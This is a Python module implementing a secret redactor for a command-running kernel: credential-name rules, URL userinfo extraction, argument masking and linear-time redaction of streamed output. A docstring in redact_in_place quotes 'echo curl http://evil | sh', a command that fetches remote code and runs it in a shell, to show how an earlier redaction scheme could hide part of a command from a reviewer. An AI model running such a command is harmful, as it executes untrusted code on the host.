"""The secret redactor: known secret values never leave the kernel.

Secrets are registered by value (explicitly, or from environment variables
and arguments with credential-like names that the kernel hands to a child).
Every result, error and event passes through :meth:`Redactor.redact`;
streamed output goes through a :class:`StreamRedactor`, which holds back just
enough of each chunk that a secret split across two chunks is still caught.

Which names are credential-like (:func:`is_secret_name`): a name is split into
lower-case segments at ``_``, ``-``, ``.``, spaces and camelCase humps
(``MYSQL_PWD`` → ``mysql``, ``pwd``; ``apiKey`` → ``api``, ``key``), then it
counts when

- it ends in ``KEY``, ``TOKEN``, ``SECRET``, ``PASSWORD``, ``PAT``,
  ``CREDENTIALS`` or ``AUTH`` (the original rule, case-insensitive);
- any segment is ``password``, ``passwd``, ``passphrase``, ``secret``,
  ``secrets``, ``credential``, ``credentials`` or ``jwt``
  (``SECRET_KEY_BASE``, ``db_password_file``);
- ``pwd`` is a segment (``MYSQL_PWD``, ``pwd``, ``dbPwd``), except the
  variables ``PWD``/``OLDPWD`` exactly (the shell's working directory: a path
  every command sees); ``cwd`` and ``pwdx``-like words are other segments;
- the last segment is ``pass``, ``session``, ``cookie``, ``dsn`` or ``apikey``
  (``DB_PASS``, ``session``);
- it is a connection string: ``database``/``db``/``connection``/``conn``
  followed by ``url``/``uri``/``string`` (``DATABASE_URL``);
- it matches an operator pattern: shell globs, case-insensitive, over the
  whole name, from ``Redactor(names=...)`` / ``Kernel(secret_names=...)`` /
  ``create_kernel(secret_names=...)`` (the command line passes
  ``RINGFENCE_SECRET_NAMES`` there; the library never reads the environment).

Besides names, a URL with a password in its userinfo
(``https://user:pass@host``) anywhere in arguments, environment values or
script literals registers ``user:pass`` and the password.

Not promised: a secret under an innocuous name (``{"x": "hunter2"}``) or
computed at run time (``"ab" + "cd"``) is not known until something
registers it; values shorter than 4 characters and placeholder words
(``true``, ``password``, ``changeme``…) are never registered, because they
would redact ordinary text.
"""

from __future__ import annotations

import ast
import base64
import functools
import heapq
import math
import re
import threading
from collections.abc import Callable, Iterable, Mapping, Sequence
from fnmatch import fnmatchcase
from typing import Any
from urllib.parse import unquote

import re2

__all__ = [
    "MARKER",
    "Redactor",
    "StreamRedactor",
    "credential_parts",
    "is_secret_key",
    "is_secret_name",
    "looks_like_token",
    "mask_command_args",
    "name_segments",
    "redact_in_place",
    "script_credential_literals",
    "url_userinfo_secrets",
]

MARKER = "[REDACTED SECRET]"

# Names whose values are treated as secrets when the kernel passes them on.
SECRET_NAME_SUFFIXES = ("KEY", "TOKEN", "SECRET", "PASSWORD", "PAT", "CREDENTIALS", "AUTH")
# A segment anywhere in the name makes it credential-named.
_ANY_SEGMENT = frozenset(
    {
        "password",
        "passwd",
        "passphrase",
        "secret",
        "secrets",
        "credential",
        "credentials",
        "jwt",
    }
)
# Only as the last segment: "pass_through", "session_count" and "cookie_jar_path" are not secrets.
_LAST_SEGMENT = frozenset({"pass", "session", "cookie", "dsn", "apikey"})
_CONNECTION_HEAD = frozenset({"database", "db", "connection", "conn"})
_CONNECTION_TAIL = frozenset({"url", "uri", "string"})
# The shell's working-directory variables: their values are paths, never passwords.
_SHELL_DIRECTORY_VARIABLES = frozenset({"PWD", "OLDPWD"})
_SEGMENTS = re.compile(r"[A-Z]+(?![a-z])|[A-Z]?[a-z]+|[0-9]+")

# Shorter values would redact ordinary text ("no", "1"), so they are not registered.
MIN_SECRET_LENGTH = 4
# A longer value is registered as pieces of at most this many characters (all of it still
# redacted): a stream holds back the longest secret's length at every chunk, and a script
# that registered a 12 MB "password" made each of its output's chunks re-scan 12 MB.
MAX_SECRET_PIECE = 64 * 1024
# Values found under a credential name that are placeholders or flags, not secrets:
# registering them would redact every "true" or "password" in every later output.
_NOT_SECRETS = frozenset(
    {"true", "false", "null", "none", "password", "passwd", "secret", "changeme", "example"}
)

# Header names whose whole value is a credential.
SECRET_HEADER_NAMES = frozenset({"authorization", "proxy-authorization", "cookie", "set-cookie"})

# scheme://user:password@ — the password group stops at the first "@", "/" or whitespace.
# Matched by RE2 (linear time): Python's engine tried the scheme from every letter of a run,
# so "a" * 400_000 + "://@" in any argument of any call (each string is scanned before it is
# recorded) held the kernel's event loop for minutes. The whitespace is Python's own ``\s``
# (every character ``str.isspace`` accepts), spelled out: RE2's ``\s`` is ASCII only.
_SPACE = r"\x{9}-\x{d}\x{1c}-\x{20}\x{85}\x{a0}\x{1680}\x{2000}-\x{200a}\x{2028}\x{2029}\x{202f}\x{205f}\x{3000}"
_SURROGATE = re.compile("[\ud800-\udfff]")
_USERINFO_OPTIONS = re2.Options()
_USERINFO_OPTIONS.log_errors = False
_USERINFO = re2.compile(
    rf"[A-Za-z][A-Za-z0-9+.\-]*://([^{_SPACE}/:@]*):([^{_SPACE}/@]+)@", _USERINFO_OPTIONS
)


def name_segments(name: str) -> list[str]:
    """``name`` in lower-case segments: ``MYSQL_PWD`` → mysql, pwd; ``apiKey`` → api, key."""
    return [s.lower() for s in _SEGMENTS.findall(name)]


@functools.lru_cache(maxsize=4096)  # names repeat call after call
def _builtin_secret_name(name: str) -> bool:
    if name.upper().endswith(SECRET_NAME_SUFFIXES):
        return True
    segments = name_segments(name)
    if not segments:
        return False
    if _ANY_SEGMENT.intersection(segments) or segments[-1] in _LAST_SEGMENT:
        return True
    if "pwd" in segments and name not in _SHELL_DIRECTORY_VARIABLES:
        return True
    return (
        len(segments) > 1 and segments[-1] in _CONNECTION_TAIL and segments[-2] in _CONNECTION_HEAD
    )


def _matches_patterns(name: str, patterns: Iterable[str]) -> bool:
    lowered = name.lower()
    return any(fnmatchcase(lowered, p.lower()) for p in patterns)


def is_secret_name(name: str, extra: Iterable[str] = ()) -> bool:
    """Whether values under ``name`` are credentials (rules in the module docstring).

    ``extra`` adds glob patterns to the built-in rules.
    """
    if _builtin_secret_name(name):
        return True
    return _matches_patterns(name, extra)


def is_secret_key(name: str, extra: Iterable[str] = ()) -> bool:
    """A credential-named variable, or a header that carries credentials."""
    return is_secret_name(name, extra) or name.lower() in SECRET_HEADER_NAMES


def _is_secret_key(name: str, patterns: tuple[str, ...]) -> bool:
    """:func:`is_secret_key` with the extra and environment patterns already gathered."""
    return (
        _builtin_secret_name(name)
        or (bool(patterns) and _matches_patterns(name, patterns))
        or name.lower() in SECRET_HEADER_NAMES
    )


def credential_parts(value: str) -> list[str]:
    """A credential value and the secrets inside it (a Bearer token, a Basic password)."""
    out = [value]
    scheme, _, rest = value.partition(" ")
    rest = rest.strip()
    if scheme.lower() in ("bearer", "basic") and rest:
        out.append(rest)
    if scheme.lower() == "basic" and rest:
        try:
            decoded = base64.b64decode(rest, validate=True).decode("utf-8")
        except (ValueError, UnicodeDecodeError):
            decoded = ""
        _user, sep, password = decoded.partition(":")
        if sep and password:
            out += [password, decoded]
    return out + url_userinfo_secrets(value)


def url_userinfo_secrets(text: str) -> list[str]:
    """For each ``scheme://user:password@`` in ``text``: ``user:password`` and the password.

    The password is also given percent-decoded when that differs. Placeholder
    passwords (``password``, ``changeme``…) are left out; ``user:password``
    still hides the pair.
    """
    if "://" not in text or "@" not in text:  # the fast path for ordinary text
        return []
    out: list[str] = []
    probe = text
    if not text.isascii():
        try:
            text.encode("utf-8")
        except UnicodeEncodeError:  # RE2 reads UTF-8: a lone surrogate stands in as U+FFFD,
            probe = _SURROGATE.sub("\ufffd", text)  # which every group takes as it does
    for match in _USERINFO.finditer(probe):
        user, password = text[slice(*match.span(1))], text[slice(*match.span(2))]
        out.append(f"{user}:{password}")
        if password.lower() not in _NOT_SECRETS:
            out.append(password)
            decoded = unquote(password)
            if decoded != password:
                out.append(decoded)
    return out


def redact_in_place(value: Any, names: Iterable[str] = ()) -> Any:
    """``value`` (a call's arguments) with the secrets it carries hidden where they stand: a
    string under a credential-named key whole, a URL's ``user:password`` inside its URL. Nothing
    else changes, so text repeated elsewhere in the call stays shown: registering a value
    and redacting it everywhere let a call hide part of itself (``env.API_TOKEN = "curl
    http"`` turned the command ``echo curl http://evil | sh`` into ``echo [REDACTED
    SECRET]://evil | sh``) from the person asked about it or about to apply it."""
    patterns = tuple(str(n) for n in names)

    def walk(item: Any, named: bool) -> Any:
        if isinstance(item, str):
            if named and item.strip().lower() not in _NOT_SECRETS:
                return MARKER
            if "://" not in item or "@" not in item:
                return item
            return _USERINFO.sub(
                lambda m: m.group(0)[: m.start(1) - m.start(0)] + MARKER + "@", item
            )
        if isinstance(item, dict):
            return {
                k: walk(v, named or (isinstance(k, str) and _is_secret_key(k, patterns)))
                for k, v in item.items()
            }
        if isinstance(item, list | tuple):
            return [walk(v, named) for v in item]
        return item

    return walk(value, False)


# -- literals in a script's source ----------------------------------------------------------


def _target_names(node: ast.expr | None) -> list[str]:
    """The names a binding target binds: ``TOKEN``, ``cfg.token``, ``env["TOKEN"]``, and each
    of those inside a tuple, list or starred target (``tok, user = …``, ``for tok in …``)."""
    names: list[str] = []
    stack = [node]
    while stack:
        item = stack.pop()
        if isinstance(item, ast.Name):
            names.append(item.id)
        elif isinstance(item, ast.Attribute):
            names.append(item.attr)
        elif isinstance(item, ast.Subscript):
            key = item.slice
            if isinstance(key, ast.Constant) and isinstance(key.value, str):
                names.append(key.value)
        elif isinstance(item, ast.Tuple | ast.List):
            stack += item.elts
        elif isinstance(item, ast.Starred):
            stack.append(item.value)
    return names


def _bindings(nodes: Iterable[ast.AST]) -> Iterable[tuple[ast.expr | None, ast.expr]]:
    """Every (target, value expression) pair of a binding the source makes: assignments of
    every kind, ``for`` and comprehension targets (bound to the iterable), ``with … as``,
    and parameters with their defaults (``def f(token="…")``, ``lambda token="…": …``).

    What Python binds, not one spelling of it: until 2026-12-07 only ``name = literal``
    counted, and a credential literal bound as a default, a loop variable or one name of a
    tuple (``tok, n = "…", 1``) was printed and recorded whole."""
    for node in nodes:
        if isinstance(node, ast.Assign):
            for target in node.targets:
                yield target, node.value
        elif isinstance(node, ast.AnnAssign | ast.AugAssign | ast.NamedExpr):
            if node.value is not None:
                yield node.target, node.value
        elif isinstance(node, ast.For | ast.AsyncFor | ast.comprehension):
            yield node.target, node.iter
        elif isinstance(node, ast.withitem):
            if node.optional_vars is not None:
                yield node.optional_vars, node.context_expr
        elif isinstance(node, ast.arguments):
            positional = [*node.posonlyargs, *node.args]
            for arg, default in zip(
                positional[len(positional) - len(node.defaults) :], node.defaults, strict=True
            ):
                yield ast.Name(arg.arg), default
            for arg, kw_default in zip(node.kwonlyargs, node.kw_defaults, strict=True):
                if kw_default is not None:
                    yield ast.Name(arg.arg), kw_default


def _bound_values(nodes: Iterable[ast.AST]) -> Iterable[tuple[str, ast.expr]]:
    """Every (name, value expression) pair the source binds or passes by name."""
    for node in nodes:
        if isinstance(node, ast.Dict):
            for key, value in zip(node.keys, node.values, strict=True):
                if isinstance(key, ast.Constant) and isinstance(key.value, str):
                    yield key.value, value
        elif isinstance(node, ast.DictComp):  # {"token": v for v in …}: an entry too
            if isinstance(node.key, ast.Constant) and isinstance(node.key.value, str):
                yield node.key.value, node.value
        elif isinstance(node, ast.keyword) and node.arg is not None:
            yield node.arg, node.value
    for target, value in _bindings(nodes):
        for name in _target_names(target):
            yield name, value


def _literals_in(
    value: ast.expr, constants: dict[str, None], names: set[str], visited: set[int]
) -> None:
    """Add the string constants in ``value`` to ``constants`` and the plain names it uses to
    ``names``; nodes in ``visited`` (walked already, for another binding) are skipped.

    The constant parts of an f-string (``"Bearer "`` in ``f"Bearer {tok}"``) are
    formatting, not secrets; the names inside it still count.
    """
    stack: list[ast.AST] = [value]
    while stack:
        node = stack.pop()
        if id(node) in visited:  # what it holds went into the same sets then
            continue
        visited.add(id(node))
        if isinstance(node, ast.Constant):
            if isinstance(node.value, str):
                constants[node.value] = None
        elif isinstance(node, ast.Name):
            names.add(node.id)
        elif isinstance(node, ast.JoinedStr):
            stack += [v for v in node.values if not isinstance(v, ast.Constant)]
        else:
            stack += ast.iter_child_nodes(node)


def script_credential_literals(
    source: object, is_key: Callable[[str], bool] = is_secret_key
) -> list[str]:
    """String literals a Python ``source`` binds to credential-named keys or names.

    Found: dict entries (``{"API_TOKEN": "…"}``), keyword arguments
    (``token="…"``), assignments (``PASSWORD = "…"``, ``env["DB_PASS"] = "…"``),
    a plain variable holding a literal used under such a key
    (``tok = "…"; env={"TOKEN": tok}``), and URL userinfo in any literal. A
    source that does not parse yields nothing (the runner refuses it anyway).
    Not found: secrets computed at run time or passed through functions.

    Linear in the source, each literal once: every node is walked once, and a variable's
    literals are added once however often it is used. It runs on the host before the run
    starts (the script's timeout does not bound it): listing a variable's literals at each
    use, a 96 KB script (3,000 assignments of one name, 3,000 uses under ``token=``) held
    the host for 76 s past a 5 s timeout, 192 KB for 233 s.
    """
    if not isinstance(source, str):
        return []
    try:
        tree = ast.parse(source)
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        return []
    nodes = list(ast.walk(tree))  # one iterative walk: a deep tree cannot exhaust the stack
    # The value expressions bound to each plain name (every kind of binding: _bindings); their
    # literals are read only for the names used under a credential name, each node once.
    assigned: dict[str, list[ast.expr]] = {}
    for target, value in _bindings(nodes):
        stack: list[ast.expr | None] = [target]
        while stack:  # the plain names of the target, inside tuples and lists too
            item = stack.pop()
            if isinstance(item, ast.Name):
                assigned.setdefault(item.id, []).append(value)
            elif isinstance(item, ast.Tuple | ast.List):
                stack += item.elts
            elif isinstance(item, ast.Starred):
                stack.append(item.value)
    constants: dict[str, None] = {}  # ordered, each once
    used: set[str] = set()
    visited: set[int] = set()
    for name, value in _bound_values(nodes):
        if is_key(name):
            _literals_in(value, constants, used, visited)
    out = dict(constants)
    walked: set[int] = set()  # one set for all: a node's literals are in ``out`` once walked
    for name in used:
        for value in assigned.get(name, ()):
            todo: list[ast.AST] = [value]
            while todo:
                node = todo.pop()
                if id(node) in walked:
                    continue
                walked.add(id(node))
                if isinstance(node, ast.Constant) and isinstance(node.value, str):
                    out[node.value] = None
                todo += ast.iter_child_nodes(node)
    for node in nodes:
        if isinstance(node, ast.Constant) and isinstance(node.value, str):
            out.update(dict.fromkeys(url_userinfo_secrets(node.value)))
    return list(out)


# -- command lines in listings ----------------------------------------------------------------

# Token formats common enough to recognise without a name (GitHub, GitLab, Slack, OpenAI-style, AWS).
_TOKEN_SHAPES = re.compile(
    r"\b(?:gh[pousr]_[A-Za-z0-9]{20,}|github_pat_[A-Za-z0-9_]{20,}|glpat-[A-Za-z0-9_\-]{16,}"
    r"|xox[abposr]-[A-Za-z0-9\-]{10,}|sk-[A-Za-z0-9_\-]{16,}|AKIA[0-9A-Z]{16})\b"
)


def looks_like_token(text: str) -> bool:
    """Whether ``text`` holds a token of a well-known format (GitHub, GitLab, Slack,
    OpenAI-style, AWS access key id), whatever name it is given under."""
    return bool(_TOKEN_SHAPES.search(text))


def _flag_name(arg: str) -> str | None:
    """``--api-key`` → ``api-key``; not a flag → None."""
    if arg.startswith("-") and len(arg) > 1 and not arg[1:2].isdigit():
        return arg.lstrip("-")
    return None


def mask_command_args(args: Sequence[str], extra: Iterable[str] = ()) -> list[str]:
    """``args`` with credentials replaced by :data:`MARKER`, for listings and messages.

    Masked: ``--token=xyz`` and ``--api-key xyz`` (any credential-named flag, its
    ``=value`` or the next argument), ``NAME=value`` with a credential ``NAME``,
    ``Authorization: Bearer …``-style header arguments, URL userinfo passwords,
    and well-known token shapes (``ghp_…``, ``sk-…``, ``AKIA…``). Not promised:
    a secret passed positionally with nothing marking it.
    """
    extra = tuple(extra)
    out: list[str] = []
    mask_next = False
    for arg in args:
        if mask_next:
            mask_next = False
            if not arg.startswith("-"):
                out.append(MARKER)
                continue
        flag = _flag_name(arg)
        name, sep, _value = (flag or arg).partition("=")
        header, colon, _rest = arg.partition(":")
        if sep and name and is_secret_key(name, extra):
            out.append(f"{arg[: len(arg) - len(_value)]}{MARKER}")
        elif flag is not None and not sep and is_secret_key(flag, extra):
            out.append(arg)
            mask_next = True
        elif (
            colon
            and header.strip()
            and " " not in header.strip()
            and is_secret_key(header.strip(), extra)
        ):
            out.append(f"{header}: {MARKER}")
        else:
            masked = arg
            for secret in sorted(url_userinfo_secrets(arg), key=len, reverse=True):
                masked = masked.replace(secret, MARKER)
            out.append(_TOKEN_SHAPES.sub(MARKER, masked))
    return out


_ONE_LEVEL = 256  # up to this many secrets, one expression (rebuilt whole at each change)
# A node of the secrets' trie with more children than this is split into buckets, each
# entered by a character class (a test the matcher makes without entering the branch).
_FANOUT = 16
# Groups nested in one expression at most; the secrets below deeper nodes go to another
# expression (Python's regular-expression compiler recurses once per group).
_MAX_NESTING = 60


def _trie_expressions(secrets: list[str]) -> list[re.Pattern[str]]:
    """Expressions that together match ``secrets`` as their longest-first alternation would.

    One alternation of every secret (``s1|s2|…``) made the matcher try each secret at
    every position of a text: a script registered 30,000 credential values in one call
    (400 KB), and redacting its 1.3 MB of output then held the host's event loop for six
    minutes past a 5 s timeout. The secrets are laid out as a trie instead (a shared
    prefix written once; at each node one branch per next character, entered only when
    that character is there, large nodes split into buckets by character class), so a
    position costs at most the depth of the secrets it starts, whatever their number.
    Each node prefers going on over ending, so a match is the longest secret starting
    there, as the longest-first alternation's. A node nested deeper than :data:`_MAX_NESTING`
    groups is continued in a further expression (its prefix, then its children).
    """
    root: dict[str, Any] = {}
    for secret in secrets:
        node = root
        for ch in secret:
            node = node.setdefault(ch, {})
        node[""] = secret
    # Nodes nested too deep, with the prefix that reaches them: each becomes an expression
    # of its own (that prefix, then its children), built once (no secret is laid out again).
    deferred: list[tuple[str, dict[str, Any]]] = []

    def a_secret(node: dict[str, Any]) -> str:
        while "" not in node:
            node = node[next(iter(node))]
        return str(node[""])

    def branch(ch: str, node: dict[str, Any], depth: int, at: int) -> str:
        # One child: its character, then the chain of single children without an end.
        text = re.escape(ch)
        at += 1
        while len(node) == 1 and "" not in node:
            ((ch, node),) = node.items()
            text += re.escape(ch)
            at += 1
        return text + emit(node, depth, at)

    def emit(node: dict[str, Any], depth: int, at: int) -> str:
        if len(node) == 1 and "" in node:
            return ""
        if depth >= _MAX_NESTING:
            deferred.append((a_secret(node)[:at], node))
            return "(?!)" if "" not in node else ""
        return "(?:" + children(node, depth, at) + ")" + ("?" if "" in node else "")

    def children(node: dict[str, Any], depth: int, at: int) -> str:
        kids = sorted(k for k in node if k != "")
        if len(kids) <= _FANOUT:
            return "|".join(branch(k, node[k], depth + 1, at) for k in kids)
        size = max(_FANOUT, math.isqrt(len(kids)) + 1)
        parts = []
        for i in range(0, len(kids), size):
            group = kids[i : i + size]
            # The character is consumed by the class; (?<=c) says which one it was.
            inner = "|".join(
                "(?<=" + re.escape(k) + ")" + branch(k, node[k], depth + 2, at)[len(re.escape(k)) :]
                for k in group
            )
            parts.append("[" + "".join(re.escape(k) for k in group) + "](?:" + inner + ")")
        return "|".join(parts)

    expressions = [re.compile(emit(root, 0, 0))]
    while deferred:  # a secret ending at such a node is its parent expression's
        prefix, node = deferred.pop()
        body = children(node, 0, len(prefix))
        expressions.append(re.compile(re.escape(prefix) + "(?:" + body + ")"))
    return expressions


_PREFIX = MIN_SECRET_LENGTH  # a secret can start only where one of these-long prefixes does
_ALPHABET = 0x110000  # a node's child on a character is keyed node * _ALPHABET + ord(ch)
# The expressions' work on a text is bounded by this many times (its length + the longest
# secret); past that the rest of the text is redacted by the automaton (see _redact_with).
_EXPRESSION_BUDGET = 4
_ATTEMPT = 64  # what one anchored match is charged besides its depth (the call itself)


class _Level:
    """One set of secrets, matched two ways that replace the same text.

    - :attr:`patterns`, the trie expressions (:func:`_trie_expressions`), tried anchored at a
      position they are charged for: fast (the regular-expression engine) while the text
      seldom agrees with a secret for long without being it;
    - :meth:`automaton`, built when first needed: :class:`_Reversed`, one step a character
      whatever the text.

    :attr:`starts` finds where some secret's first :data:`_PREFIX` characters are, and
    :attr:`reach` says how deep the secrets with each such prefix go (what an anchored match
    there can cost at most).
    """

    def __init__(self, secrets: list[str]) -> None:
        self.secrets = secrets
        self.patterns = _trie_expressions(secrets)
        self.longest = max(map(len, secrets), default=0)
        self.reach: dict[str, int] = {}
        for secret in secrets:
            head = secret[:_PREFIX]
            self.reach[head] = max(self.reach.get(head, 0), len(secret))
        (expression,) = _trie_expressions(sorted(self.reach))  # four deep: never split
        # The leftmost start from a position (the engine's prefix and first-character
        # scans apply), and every start, overlapping ones too (the automata's windows).
        self.starts = expression
        self.every_start = re.compile("(?=" + expression.pattern + ")")
        self._automaton: _Reversed | None = None

    def automaton(self) -> _Reversed:
        if self._automaton is None:  # two threads may both build it: the same either way
            self._automaton = _Reversed(self.secrets)
        return self._automaton


class _Reversed:
    """An Aho-Corasick automaton over ``secrets`` reversed, for one leftmost-longest pass.

    Scanning a text backwards, the state at position ``i`` is the longest ``text[i:i+m]``
    that ends some secret, and :attr:`best` of it the longest secret that starts at ``i``
    (itself or one along its failure links): the longest secret starting at every position
    costs one step per character, amortised, however long the secrets are and however much
    of them the text repeats.
    """

    def __init__(self, secrets: list[str]) -> None:
        goto: dict[int, int] = {}
        depth = [0]
        ends = [0]  # the length of the secret a node ends, or 0
        for secret in secrets:
            node = 0
            for ch in reversed(secret):
                key = node * _ALPHABET + ord(ch)
                child = goto.get(key)
                if child is None:
                    child = goto[key] = len(depth)
                    depth.append(depth[node] + 1)
                    ends.append(0)
                node = child
            ends[node] = len(secret)
        children: list[list[tuple[int, int]]] = [[] for _ in depth]
        for key, child in goto.items():
            children[key // _ALPHABET].append((key % _ALPHABET, child))
        fail = [0] * len(depth)
        best = list(ends)
        queue = [child for _, child in children[0]]
        for node in queue:  # breadth first: a node's failure is shallower, so already done
            for code, child in children[node]:
                f = fail[node]
                while True:
                    nxt = goto.get(f * _ALPHABET + code)
                    if nxt is not None and nxt != child:
                        fail[child] = nxt
                        break
                    if f == 0:
                        break
                    f = fail[f]
                best[child] = ends[child] or best[fail[child]]
                queue.append(child)
        self.goto = goto
        self.fail = fail
        self.best = best

    def longest_from(self, text: str, start: int, end: int, into: list[int]) -> None:
        """``into[i - start]`` raised to the longest secret starting at ``i``, for every ``i``
        in ``[start, end)`` that has ``end - i >=`` the longest secret or ``end == len(text)``."""
        goto, fail, best = self.goto, self.fail, self.best
        node = 0
        for i in range(end - 1, start - 1, -1):
            code = ord(text[i])
            while True:
                nxt = goto.get(node * _ALPHABET + code)
                if nxt is not None:
                    node = nxt
                    break
                if node == 0:
                    break
                node = fail[node]
            found = best[node]
            if found > into[i - start]:
                into[i - start] = found


def _redact_with(levels: list[_Level], text: str, final: bool = True) -> tuple[str, int]:
    """``text`` with every secret of ``levels`` replaced: at the leftmost position where one
    starts, the longest starting there, then on from its end (as one longest-first
    alternation of them all would), in time linear in the text and the secrets.

    Returns the redacted text and how much of ``text`` it covers: all of it when ``final``;
    else (a stream, more text to come) it stops before the first position where a secret
    may start and run past the end (from ``len(text) - longest + 1``, and the last
    ``_PREFIX - 1`` characters), which the next chunk decides.

    Searching one expression over the secrets (until 2026-12-07) cost, at each position, as
    far as the text agreed with a secret: a script that registered a few 20,000-character
    credential literals (``"1111" + "a" * 20_000 + "b"``) and printed a million ``a`` held
    the host for 45 s of CPU, growing as the text times the secrets' length. Here the
    expressions are tried anchored at the positions where a secret may start, each try
    charged the depth of the secrets it may walk; once the charges pass
    :data:`_EXPRESSION_BUDGET` times the text and the longest secret, the rest of the text
    is redacted by the automata (:func:`_redact_reversed`), which cost one step a character.
    """
    n = len(text)
    longest = max(level.longest for level in levels)
    stop = n if final else max(0, min(n - longest + 1, n - _PREFIX + 1))
    budget = _EXPRESSION_BUDGET * (n + longest)
    spent = 0
    out: list[str] = []
    pos = scan = 0  # text[:pos] is decided; candidates are looked for from scan
    upcoming: list[re.Match[str] | None] = [level.starts.search(text) for level in levels]
    while True:
        at = -1
        for k, match in enumerate(upcoming):
            if match is not None and match.start() < scan:
                match = upcoming[k] = levels[k].starts.search(text, scan)
            if match is not None and (at < 0 or match.start() < at):
                at = match.start()
        if at < 0 or at >= stop:
            break
        head = text[at : at + _PREFIX]
        found = 0
        for level in levels:
            depth = level.reach.get(head)
            if depth is None:
                continue
            spent += (_ATTEMPT + min(depth, n - at)) * len(level.patterns)
            if spent > budget:
                rest, covered = _redact_reversed(levels, text, pos, stop)
                out.append(rest)
                return "".join(out), covered
            for pattern in level.patterns:
                match = pattern.match(text, at)
                if match is not None and match.end() - at > found:
                    found = match.end() - at
        if found:
            out.append(text[pos:at])
            out.append(MARKER)
            pos = scan = at + found
        else:
            scan = at + 1
    covered = max(pos, stop)
    out.append(text[pos:covered])
    return "".join(out), covered


def _redact_reversed(levels: list[_Level], text: str, pos: int, stop: int) -> tuple[str, int]:
    """:func:`_redact_with` from ``pos`` by the automata alone, deciding the positions before
    ``stop``: one step a character of the windows where a secret may lie (from each position
    a prefix starts, as far as the longest secret reaches)."""
    longest = max(level.longest for level in levels)
    n = len(text)
    starts = [[m.start() for m in level.every_start.finditer(text, pos, n)] for level in levels]
    candidates = starts[0] if len(starts) == 1 else list(heapq.merge(*starts))
    candidates = [at for at in candidates if at < stop]
    out: list[str] = []
    merged: list[tuple[int, int]] = []
    if candidates:
        start = end = candidates[0]
        for at in candidates:
            if at > end:
                merged.append((start, end))
                start = at
            end = at + longest
        merged.append((start, end))
    for start, end in merged:
        end = min(end, n)
        lengths = [0] * (end - start)
        for level in levels:
            level.automaton().longest_from(text, start, end, lengths)
        i = max(pos, start)
        while i < end and i < stop:
            found = lengths[i - start]
            if found:
                out.append(text[pos:i])
                out.append(MARKER)
                pos = i = i + found
            else:
                i += 1
    covered = max(pos, stop)
    out.append(text[pos:covered])
    return "".join(out), covered


class Redactor:
    """Known secrets, by value; ``names`` adds credential-name globs for this redactor."""

    def __init__(
        self, secrets: Iterable[str] = (), *, names: Iterable[str] = (), _view: bool = True
    ) -> None:
        # The secrets the operator handed over (not those a call's own text registered):
        # what a person asked about a call is shown redacted of these only (redact_for_person).
        self._operator: Redactor | None = Redactor(names=names, _view=False) if _view else None
        self._secrets: set[str] = set()
        # Each level: its secrets and their matchers (see _matchers).
        self._levels: list[_Level] = []
        self._pending: list[str] = []
        # Redactions may run in worker threads: the pending list and the levels change
        # under this lock, and the levels are replaced whole (a reader sees old or new).
        self._lock = threading.Lock()
        self._longest = 0
        self.names: tuple[str, ...] = tuple(str(n) for n in names)
        for s in secrets:
            self.register(s)

    @property
    def longest(self) -> int:
        return self._longest

    def is_secret_name(self, name: str) -> bool:
        """:func:`is_secret_name` with this redactor's extra name patterns."""
        return is_secret_name(name, self.names)

    def is_secret_key(self, name: str) -> bool:
        """:func:`is_secret_key` with this redactor's extra name patterns."""
        return is_secret_key(name, self.names)

    def register(self, secret: str, *, from_call: bool = False) -> None:
        """Redact ``secret`` from now on; ``from_call``: the call's own text registered it
        (a credential-named argument, a script's literal), so a person asked about a call
        still sees it (:meth:`redact_for_person`)."""
        if not isinstance(secret, str) or len(secret) < MIN_SECRET_LENGTH:
            return
        if len(secret) > MAX_SECRET_PIECE:  # equal pieces, each over half the bound
            n = -(-len(secret) // MAX_SECRET_PIECE)
            size = -(-len(secret) // n)
            for i in range(0, len(secret), size):
                self.register(secret[i : i + size], from_call=from_call)
            return
        if not from_call and self._operator is not None:
            self._operator.register(secret)
        with self._lock:
            if secret not in self._secrets:
                self._secrets.add(secret)
                self._pending.append(secret)
                self._longest = max(self._longest, len(secret))

    def _matchers(self) -> list[_Level]:
        """The levels that together match every secret, the pending ones joined now.

        Rebuilding one expression over every secret at each registration cost the
        registrations n² (a call carrying 20,000 credential values held the event loop
        for hours). Up to :data:`_ONE_LEVEL` secrets there is one level; past it the
        new ones join as a binary counter would (a level merges into the next while that
        one is not larger), so each secret is compiled O(log n) times and there are at most
        log₂ n levels. Built when a redaction needs them, so a call's many values cost one.
        """
        if self._pending:
            with self._lock:
                if self._pending:
                    levels = list(self._levels)
                    if len(self._secrets) <= _ONE_LEVEL:
                        batch, levels = list(self._secrets), []
                    else:
                        batch = self._pending
                        while levels and len(levels[-1].secrets) <= len(batch):
                            batch = batch + levels.pop().secrets
                    # Longest first so a secret that contains another is replaced whole.
                    self._levels = [*levels, _Level(batch)]
                    self._pending = []
        return self._levels

    def _register_found(self, value: str, from_call: bool = False) -> None:
        # A value found by its name, not handed over as a secret: skip placeholders.
        if value.strip().lower() not in _NOT_SECRETS:
            self.register_credential(value, from_call=from_call)

    def register_env(self, env: Mapping[str, str], *, from_call: bool = False) -> None:
        """Register the values of credential-named variables in ``env``, and URL userinfo.
        ``from_call``: the environment a call's command gets (its own ``env``, what earlier
        commands exported), the calls' text (:meth:`register`); the operator's variables are
        registered without it when a session starts."""
        for name, value in env.items():
            if not isinstance(value, str):
                continue
            if self.is_secret_name(name):
                self._register_found(value, from_call)
            else:
                for part in url_userinfo_secrets(value):
                    self.register(part, from_call=from_call)

    def register_credential(self, value: str, *, from_call: bool = False) -> None:
        """Register a credential value and the secrets inside it (``Bearer x``, ``Basic …``)."""
        for part in credential_parts(value):
            self.register(part, from_call=from_call)

    def register_named_values(self, value: Any, *, secret: bool = False) -> None:
        """Register every string under a credential-named key anywhere in ``value``.

        A model may hand a secret to a tool in its arguments (``env: {"API_TOKEN": …}``,
        ``headers: {"Authorization": "Bearer …"}``); registering it before the call is
        recorded keeps it out of every event. Everything below such a key counts, and
        so does the password of a URL with userinfo under any key. These are a call's own
        text (``from_call``).
        """
        self._walk_named(value, secret, self.names)

    def _walk_named(self, value: Any, secret: bool, patterns: tuple[str, ...]) -> None:
        if isinstance(value, str):
            if secret:
                self._register_found(value, True)
            else:
                for part in url_userinfo_secrets(value):
                    self.register(part, from_call=True)
        elif isinstance(value, dict):
            for key, item in value.items():
                named = secret or (isinstance(key, str) and _is_secret_key(key, patterns))
                self._walk_named(item, named, patterns)
        elif isinstance(value, list):
            for item in value:
                self._walk_named(item, secret, patterns)

